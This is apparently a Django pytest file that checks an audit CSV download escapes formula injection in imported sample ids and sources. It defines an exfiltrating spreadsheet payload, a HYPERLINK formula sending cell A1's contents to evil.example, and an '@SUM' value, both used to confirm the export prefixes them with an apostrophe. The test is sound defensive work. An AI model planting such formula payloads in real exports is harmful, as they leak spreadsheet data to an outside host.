"""The audit's CSV downloads guard formulas too: sample ids and sources come from imports."""

from __future__ import annotations

import csv
import io
from typing import cast

import pytest
from django.contrib.auth.models import Group, User
from django.urls import reverse

from annotator.models import Sample
from review.roles import AUDITOR
from tests.factories import UserFactory
from tests.review.selectors.test_audit import make_audit_world

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"details")'


pytestmark = pytest.mark.usefixtures("empty_audit_cache")


def test_drilldown_csv_neutralises_imported_text(client, db):
    make_audit_world()
    Sample.objects.filter(external_id="s1").update(external_id=HYPERLINK, source="@SUM(1+1)")
    auditor = cast(User, UserFactory())
    auditor.groups.add(Group.objects.get(name=AUDITOR))
    client.force_login(auditor)
    response = client.get(
        reverse("review:audit_samples"),
        {"dataset": "emo-audit", "figure": "disputes", "format": "csv"},
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["external_id"] == "'" + HYPERLINK
    assert rows[0]["source"] == "'@SUM(1+1)"
    assert [row["external_id"] for row in rows[1:]] == ["s2", "s4"]
    assert all(row["sample_id"].isdigit() for row in rows)
